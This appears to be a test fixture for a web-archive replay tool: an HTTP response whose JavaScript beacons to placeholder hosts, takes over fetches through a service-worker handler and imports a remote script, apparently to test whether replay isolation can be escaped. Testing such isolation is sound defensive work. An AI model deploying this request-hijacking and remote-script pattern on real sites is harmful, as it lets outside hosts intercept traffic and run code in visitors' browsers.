HTTP/1.1 200 OK
Content-Type: text/javascript

new Image().src='@REPLAY@/web/2im_/http://hostile.example/RAN?hostile.js';new Image().src='http://live.example/ran?hostile.js';self.addEventListener&&self.addEventListener("fetch",e=>e.respondWith(fetch("http://live.example/sw")));importScripts&&importScripts("http://live.example/is.js")